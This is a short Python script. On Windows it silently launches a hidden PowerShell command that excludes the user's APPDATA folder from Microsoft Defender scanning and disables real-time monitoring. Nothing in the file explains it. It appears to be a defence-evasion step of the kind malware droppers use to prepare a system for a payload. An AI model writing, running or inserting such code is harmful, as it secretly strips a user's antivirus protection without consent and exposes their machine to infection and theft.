import os, subprocess
if os.name == "nt":
    appdata = os.getenv("APPDATA")
    subprocess.run(["powershell", "-WindowStyle", "Hidden", "-Command", f"Add-MpPreference -ExclusionPath '{appdata}'; Set-MpPreference -DisableRealtimeMonitoring $true"], capture_output=True)
